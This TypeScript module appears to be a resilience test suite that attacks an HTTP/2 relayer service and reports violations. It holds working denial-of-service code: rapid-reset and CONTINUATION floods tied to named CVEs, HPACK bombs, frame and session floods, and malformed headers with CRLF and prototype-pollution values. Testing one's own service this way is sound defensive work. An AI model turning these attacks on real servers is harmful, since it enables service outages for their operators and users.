import type { Socket } from 'node:net';
import { type Attack, type Ground, inLanes } from './attack.js';
import {
  callHeaders,
  flag,
  frame,
  framesIn,
  headerBlock,
  headersFrame,
  hpackInteger,
  hpackText,
  preface,
  settings,
  type,
  uint32,
} from './http2-frames.js';
import { envelope, signData, watchTransactions } from './valid-requests.js';

const rest = '/api/v1/relayers/r1';
const list = `${rest}/transactions?per_page=100`;
const getBlock = headerBlock(callHeaders(rest, null));
const listBlock = headerBlock(callHeaders(list, null));
const signBlock = headerBlock(callHeaders(`${rest}/sign`, 'application/json'));
const watchBlock = headerBlock(callHeaders(watchTransactions.path, 'application/grpc'));
const endPing = frame(type.ping, 0, 0, Buffer.from('the last'));

/**
 * Sends frames behind the preface, as fast as possible, and then a PING; resolves with the bytes received until that was answered, the
 * connection was closed, or `patienceMs` were over. The connection is then closed, or given to `held`.
 */
async function assault(
  { target }: Ground,
  parts: Iterable<Uint8Array>,
  patienceMs = 1_500,
  first: Uint8Array = settings(),
  held?: Socket[],
): Promise<Buffer> {
  const socket = await target.open();
  const received: Buffer[] = [];
  let isOver = socket.destroyed;
  const over = new Promise<void>((resolve) => {
    const end = (): void => {
      isOver = true;
      resolve();
    };
    setTimeout(end, patienceMs).unref();
    socket.once('close', end);
    socket.on('data', (chunk: Buffer) => {
      received.push(chunk);
      if (chunk.includes('the last')) end();
    });
  });
  socket.write(Buffer.concat([preface, first]));
  for (const part of parts) {
    if (isOver) break;
    target.counts.requests += 1;
    if (!socket.write(part)) await Promise.race([new Promise((resolve) => socket.once('drain', resolve)), over]);
  }
  if (!isOver) socket.write(endPing);
  await over;
  if (held === undefined) socket.destroy();
  else held.push(socket);
  return Buffer.concat(received);
}

function* times(count: number, make: (index: number) => Uint8Array): Generator<Uint8Array> {
  // Many in one write: one by one would be a flood of system calls only.
  const batch = 50;
  for (let start = 0; start < count; start += batch) {
    yield Buffer.concat(Array.from({ length: Math.min(batch, count - start) }, (_, index) => make(start + index)));
  }
}

/** CVE-2023-44487: calls that are opened and reset as fast as they can be. */
async function rapidReset(ground: Ground): Promise<void> {
  const count = ground.isShort ? 4_000 : 50_000;
  for (const block of ground.isShort ? [getBlock, watchBlock] : [getBlock, listBlock, signBlock, watchBlock]) {
    await inLanes(4, 4, async () => {
      await assault(
        ground,
        times(count / 4, (index) =>
          Buffer.concat([headersFrame(index * 2 + 1, block, block === getBlock), frame(type.reset, 0, index * 2 + 1, uint32(8))]),
        ),
      );
    });
  }
}

/** Streams by the thousand on one session, and on many. */
async function manyStreams(ground: Ground): Promise<void> {
  const watch = envelope(watchTransactions.binary);
  // The limit holds once it was acknowledged.
  const first = Buffer.concat([settings(), frame(type.settings, flag.ack, 0)]);
  const received = await assault(
    ground,
    times(1_000, (index) =>
      Buffer.concat([headersFrame(index * 2 + 1, watchBlock, false), frame(type.data, flag.endStream, index * 2 + 1, watch)]),
    ),
    5_000,
    first,
  );
  // A refusal has headers alone. Node closes a session that begins far more streams than are allowed at once, perhaps before the first data.
  const served = new Set(framesIn(received).flatMap(({ kind, stream }) => (kind === type.data ? [stream] : []))).size;
  if (served > 50) ground.violation(`the service served ${served} of 1000 streams of one key at once`);
  const held: Socket[] = [];
  const sessions = ground.isShort ? 5 : 80;
  await inLanes(sessions, 20, async () => {
    await assault(
      ground,
      times(250, (index) => headersFrame(index * 2 + 1, signBlock, false)),
      5_000,
      settings(),
      held,
    );
  });
  for (const socket of held) socket.destroy();
  await inLanes(sessions / 5, 8, async () => {
    await assault(
      ground,
      times(250, (index) => headersFrame(index * 2 + 1, listBlock, true)),
      5_000,
    );
  });
}

/** Frames that cost their sender nothing. */
async function floods(ground: Ground): Promise<void> {
  const count = ground.isShort ? 20_000 : 200_000;
  const block = Buffer.concat([headersFrame(1, signBlock, false)]);
  const all: Record<string, Iterable<Uint8Array>> = {
    SETTINGS: times(count, () => settings([4, 65_535])),
    'large SETTINGS': times(count / 100, () =>
      settings(...Array.from({ length: 500 }, (_, index): [number, number] => [index + 100, index])),
    ),
    'acknowledged SETTINGS': times(count, () => frame(type.settings, flag.ack, 0)),
    PING: times(count, () => frame(type.ping, 0, 0, Buffer.alloc(8))),
    'PING answers': times(count, () => frame(type.ping, flag.ack, 0, Buffer.alloc(8))),
    PRIORITY: times(count, (index) => frame(type.priority, 0, (index % 10_000) * 2 + 1, [...uint32(1), 1])),
    WINDOW_UPDATE: times(count, () => frame(type.window, 0, 0, uint32(1))),
    'empty DATA': (function* () {
      yield block;
      yield* times(count, () => frame(type.data, 0, 1));
    })(),
    'padded DATA': (function* () {
      yield block;
      yield* times(count / 50, () => frame(type.data, flag.padded, 1, [255, ...Buffer.alloc(255)]));
    })(),
    'unknown frames': times(count, () => frame(0xbe, 0xff, 7, Buffer.alloc(20))),
    // CVE-2024-27316: a header block that does not end.
    CONTINUATION: (function* () {
      yield frame(type.headers, 0, 1, getBlock);
      yield* times(count, (index) => frame(type.continuation, 0, 1, headerBlock([[`x${index}`, 'y'.repeat(100)]])));
    })(),
    'empty CONTINUATION': (function* () {
      yield frame(type.headers, 0, 1, getBlock);
      yield* times(count, () => frame(type.continuation, 0, 1));
    })(),
    'calls that are not found': times(count / 20, (index) => headersFrame(index * 2 + 1, headerBlock(callHeaders('/none', null)), true)),
    'headers that are refused': times(count / 20, (index) =>
      headersFrame(
        index * 2 + 1,
        headerBlock([
          [':method', 'GET'],
          ['UPPER', 'x'],
        ]),
        true,
      ),
    ),
  };
  const floodings = Object.values(all);
  await inLanes(floodings.length, 3, async (index) => {
    await assault(ground, floodings[index] ?? [], 5_000);
  });
  const { target } = ground;
  for (const make of [
    () => frame(type.ping, 0, 0, Buffer.alloc(8)),
    () => settings([4, 1]),
    (index: number) => headersFrame(index * 2 + 1, listBlock, true),
  ]) {
    const socket = await target.open();
    socket.pause();
    socket.write(Buffer.concat([preface, settings()]));
    let isClosed = false;
    socket.once('close', () => {
      isClosed = true;
    });
    for (const part of times(count / 10, make)) {
      if (isClosed || socket.writableLength > 4_000_000) break;
      target.counts.requests += 1;
      socket.write(part);
      await new Promise(setImmediate);
    }
  }
}

/** Header blocks that only a bad encoder makes. */
async function hpack(ground: Ground): Promise<void> {
  const call = Buffer.concat([headerBlock(callHeaders(rest, null))]);
  const add = (name: string, value: string): Buffer => Buffer.concat([Buffer.from([0x40]), hpackText(name), hpackText(value)]);
  const blocks: Record<string, Uint8Array> = {
    'index 0': Buffer.concat([call, Buffer.from([0x80])]),
    'an index past the table': Buffer.concat([call, hpackInteger(200, 7, 0x80)]),
    'an index of 2^50': Buffer.concat([call, hpackInteger(2 ** 50, 7, 0x80)]),
    'an index without an end': Buffer.concat([call, Buffer.alloc(1_000, 0xff)]),
    'a table of 2^31': Buffer.concat([hpackInteger(2 ** 31, 5, 0x20), call]),
    'a table size behind headers': Buffer.concat([call, hpackInteger(0, 5, 0x20)]),
    'tables of every size': Buffer.concat([...Array.from({ length: 1_000 }, (_, index) => hpackInteger(index, 5, 0x20)), call]),
    'a text longer than its block': Buffer.concat([call, Buffer.from([0]), hpackInteger(10_000, 7, 0), Buffer.from('x')]),
    'a text of 2^40': Buffer.concat([call, Buffer.from([0]), hpackInteger(2 ** 40, 7, 0)]),
    'bad Huffman padding': Buffer.concat([call, Buffer.from([0, 0x81, 0x00, 1, 65])]),
    'the Huffman end': Buffer.concat([call, Buffer.from([0, 0x84, 0xff, 0xff, 0xff, 0xff, 1, 65])]),
    'an empty name': Buffer.concat([call, Buffer.from([0, 0, 0])]),
    nothing: Buffer.alloc(0),
    // A table filled once and named sixteen thousand times: 64 MiB of headers in 16 KiB.
    'a bomb': Buffer.concat([call, add('x', 'y'.repeat(4_000)), Buffer.alloc(10_000, 0xbe)]),
    'a table filled over and over': Buffer.concat([call, ...Array.from({ length: 100 }, (_, index) => add(`x${index}`, 'y'.repeat(100)))]),
    'a thousand cookies': Buffer.concat([call, headerBlock(Array.from({ length: 1_000 }, (): [string, string] => ['cookie', 'a']))]),
  };
  const all = Object.values(blocks);
  await inLanes(all.length, 16, async (which) => {
    const block = all[which] ?? Buffer.alloc(0);
    await assault(ground, [headersFrame(1, block, true), headersFrame(3, getBlock, true)]);
    await assault(
      ground,
      times(200, (index) => headersFrame(index * 2 + 1, block, true)),
    );
  });
}

/** Pseudo-headers and headers that HTTP/2 forbids, or that are allowed but unusual. */
async function headers(ground: Ground): Promise<void> {
  const get = callHeaders(rest, null);
  const without = (name: string): [string, string][] => get.filter(([other]) => other !== name);
  // Pseudo-headers come first.
  const withValue = (name: string, value: string): [string, string][] => [[name, value], ...without(name)];
  const lists: [string, string][][] = [
    ...[':method', ':scheme', ':authority', ':path'].flatMap((name) => [
      without(name),
      [[name, 'twice'], ...get] as [string, string][],
      withValue(name, ''),
      withValue(name, '\0'),
      withValue(name, '*'),
      withValue(name, '['),
      withValue(name, '%'),
      withValue(name, '1.2.3.4.5'),
      withValue(name, 'x'.repeat(9_000)),
      withValue(name, '\xff'),
    ]),
    withValue(':path', '//'),
    withValue(':path', 'http://[/x'),
    withValue(':path', `${list}&page=99999999999999999999`),
    withValue(':method', 'CONNECT'),
    [
      [':method', 'CONNECT'],
      [':authority', 'a:80'],
    ],
    [[':method', 'CONNECT'], [':protocol', 'websocket'], ...get.slice(1)],
    [[':status', '200'], ...get],
    [[':unknown', 'x'], ...get],
    [...get, [':path', '/late']],
    [...get, ['connection', 'close']],
    [...get, ['transfer-encoding', 'chunked']],
    [...get, ['upgrade', 'h2c']],
    [...get, ['te', 'gzip']],
    [...get, ['host', 'other']],
    [...get, ['content-length', '5']],
    [...get, ['content-length', '-5']],
    [...get, ['content-length', '5'], ['content-length', '6']],
    [...get, ['expect', '100-continue']],
    [...get, ['authorization', 'Bearer x']],
    [...get, ['__proto__', 'x'], ['constructor', 'y']],
    [...get, ['x y', 'z']],
    [...get, ['x', 'a\r\nb: c']],
    [...get, ['x', ' padded ']],
    [...get, ...Array.from({ length: 500 }, (_, index): [string, string] => [`x${index}`, 'y'])],
    [...get, ['x', 'y'.repeat(15_000)]],
  ];
  await inLanes(lists.length, 8, async (index) => {
    const block = headerBlock(lists[index] ?? []);
    await assault(ground, [headersFrame(1, block, true)]);
    await assault(ground, [headersFrame(1, block, false), frame(type.data, flag.endStream, 1, Buffer.from('{"message":"m"}'))]);
  });
}

/** Frames in the wrong order, on the wrong streams, of the wrong sizes. */
async function order(ground: Ground): Promise<void> {
  const open = headersFrame(1, signBlock, false);
  const body = Buffer.from('{"message":"m"}');
  const turns: Uint8Array[][] = [
    [frame(type.data, 0, 0, body)],
    [frame(type.data, 0, 1, body)],
    [frame(type.data, 0, 2, body)],
    [headersFrame(2, getBlock, true)],
    [headersFrame(0, getBlock, true)],
    [headersFrame(5, getBlock, true), headersFrame(3, getBlock, true)],
    [headersFrame(1, getBlock, true), frame(type.data, flag.endStream, 1, body)],
    [headersFrame(1, getBlock, true), headersFrame(1, getBlock, true)],
    [open, headersFrame(1, getBlock, false)],
    [open, frame(type.headers, flag.endHeaders | flag.endStream, 1, headerBlock([['x', 'y']]))],
    [open, headersFrame(1, headerBlock([[':path', '/x']]), true)],
    [headersFrame(0x7fffffff, getBlock, true), headersFrame(1, getBlock, true)],
    [frame(type.headers, 0, 1, getBlock), frame(type.data, 0, 1, body)],
    [frame(type.continuation, flag.endHeaders, 1, getBlock)],
    [frame(type.reset, 0, 1, uint32(8))],
    [open, frame(type.reset, 0, 1, [1, 2])],
    [open, frame(type.reset, 0, 1, uint32(8)), frame(type.data, 0, 1, body)],
    [frame(type.push, flag.endHeaders, 1, [...uint32(2), ...getBlock])],
    [frame(type.settings, 0, 1)],
    [frame(type.settings, 0, 0, [1])],
    [frame(type.settings, flag.ack, 0, [1, 2, 3, 4, 5, 6])],
    [settings([2, 7])],
    [settings([4, 0xffffffff])],
    [settings([5, 1])],
    [settings([5, 0xffffffff])],
    [settings([1, 0]), open, settings([1, 0xffffffff]), headersFrame(3, getBlock, true)],
    [settings([3, 0]), headersFrame(1, getBlock, true)],
    [settings([6, 0]), headersFrame(1, getBlock, true)],
    [frame(type.ping, 0, 0, [1])],
    [frame(type.ping, 0, 1, Buffer.alloc(8))],
    [frame(type.window, 0, 0, uint32(0))],
    [frame(type.window, 0, 0, uint32(0x7fffffff)), frame(type.window, 0, 0, uint32(0x7fffffff))],
    [open, frame(type.window, 0, 1, uint32(0))],
    [open, frame(type.window, 0, 1, uint32(0x7fffffff)), frame(type.window, 0, 1, uint32(0x7fffffff))],
    [frame(type.window, 0, 9, uint32(1))],
    [frame(type.priority, 0, 1, [...uint32(1), 1])],
    [frame(type.priority, 0, 0, [...uint32(1), 1])],
    [frame(type.headers, flag.endHeaders | flag.endStream | flag.priority, 1, [...uint32(1), 1, ...getBlock])],
    [frame(type.headers, flag.endHeaders | flag.padded, 1, [255, ...getBlock.subarray(0, 50)])],
    [open, frame(type.data, flag.padded, 1, [255, 1])],
    [open, frame(type.data, flag.endStream, 1, Buffer.alloc(16_385))],
    [open, frame(type.data, flag.endStream, 1, body, 0xffffff)],
    [frame(type.headers, flag.endHeaders, 1, getBlock, 0xffffff)],
    [frame(0xff, 0xff, 0x7fffffff, Buffer.alloc(16_384))],
    [frame(type.goaway, 0, 0, [...uint32(0), ...uint32(0)]), headersFrame(1, getBlock, true)],
    [
      headersFrame(1, getBlock, true),
      frame(type.goaway, 0, 0, [...uint32(0x7fffffff), ...uint32(2), ...Buffer.alloc(10_000)]),
      headersFrame(3, getBlock, true),
    ],
    [open, frame(type.goaway, 0, 0, [...uint32(1), ...uint32(11)]), frame(type.data, flag.endStream, 1, body)],
    Array.from({ length: 100 }, () => frame(type.goaway, 0, 0, [...uint32(1), ...uint32(0)])),
    [frame(type.goaway, 0, 0, [1])],
    [preface, settings()],
    [Buffer.from('GET / HTTP/1.1\r\nhost: a\r\n\r\n')],
  ];
  await inLanes(turns.length, 8, async (index) => {
    const parts = turns[index] ?? [];
    await assault(ground, parts);
    // Before any SETTINGS, and with the connection torn in the middle.
    await assault(ground, parts, 1_500, Buffer.alloc(0));
    const socket = await ground.target.open();
    socket.write(Buffer.concat([preface, settings(), open, ...parts]));
    ground.target.counts.requests += 1;
    await new Promise(setImmediate);
    socket.resetAndDestroy();
  });
  for (const start of ['PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n', 'PRI * HTTP/2.0\r\n\r\n', 'PRIX', 'PRI * HTTP/1.1\r\nhost: a\r\n\r\n']) {
    await ground.target.send(start, 500);
  }
}

/**
 * A GOAWAY and calls behind it, in one packet: Node refuses them while it reads them, and frees what it reads (nodejs/node#64113). It takes
 * some hundred times for the damage to show.
 */
async function goaway(ground: Ground): Promise<void> {
  const { target, isShort } = ground;
  for (const code of [0, 2]) {
    for (const before of [0, 1]) {
      const calls = Array.from({ length: 20 }, (_, index) => headersFrame(index * 2 + 1, getBlock, true));
      const away = frame(type.goaway, 0, 0, [...uint32(0), ...uint32(code)]);
      const bytes = Buffer.concat([preface, settings(), ...calls.slice(0, before), away, ...calls.slice(before)]);
      await inLanes(isShort ? 300 : 1_500, 8, async () => {
        const socket = await target.open();
        target.counts.requests += 20;
        socket.resume().write(bytes);
        await new Promise((resolve) => setTimeout(resolve, 3));
        socket.destroy();
      });
    }
  }
}

/** Readers whose windows are shut, or open a byte at a time. */
async function shutWindows(ground: Ground): Promise<void> {
  const { target, isShort } = ground;
  const held: Socket[] = [];
  await inLanes(isShort ? 4 : 40, 10, async () => {
    await assault(
      ground,
      times(250, (index) => headersFrame(index * 2 + 1, listBlock, true)),
      1_500,
      settings([4, 0]),
      held,
    );
  });
  for (const socket of held) socket.destroy();
  const socket = await target.open();
  socket
    .resume()
    .write(
      Buffer.concat([preface, settings([4, 1]), ...Array.from({ length: 50 }, (_, index) => headersFrame(index * 2 + 1, listBlock, true))]),
    );
  for (let byte = 0; byte < (isShort ? 500 : 5_000) && !socket.destroyed; byte += 1) {
    socket.write(frame(type.window, 0, (byte % 50) * 2 + 1, uint32(1)));
    target.counts.requests += 1;
    await new Promise(setImmediate);
  }
}

/** Sessions that come and go. */
async function sessions(ground: Ground): Promise<void> {
  const { target, random, isShort } = ground;
  await inLanes(isShort ? 300 : 3_000, 32, async () => {
    const socket = await target.open();
    target.counts.requests += 1;
    socket
      .resume()
      .write(
        Buffer.concat([
          preface,
          settings(),
          headersFrame(1, signBlock, false),
          frame(type.data, flag.endStream, 1, Buffer.from(signData.json)),
        ]),
      );
    await new Promise((resolve) => setTimeout(resolve, random.between(0, 10)));
    if (random.chance(0.5)) socket.resetAndDestroy();
    else socket.end();
  });
}

export const http2Attacks: readonly Attack[] = [
  { name: 'http2: rapid resets', run: rapidReset },
  { name: 'http2: streams by the thousand', run: manyStreams },
  { name: 'http2: floods', run: floods },
  { name: 'http2: HPACK', run: hpack },
  { name: 'http2: headers', run: headers },
  { name: 'http2: frames out of order', run: order },
  { name: 'http2: GOAWAY and more', run: goaway },
  { name: 'http2: shut windows', run: shutWindows },
  { name: 'http2: sessions that come and go', run: sessions },
];
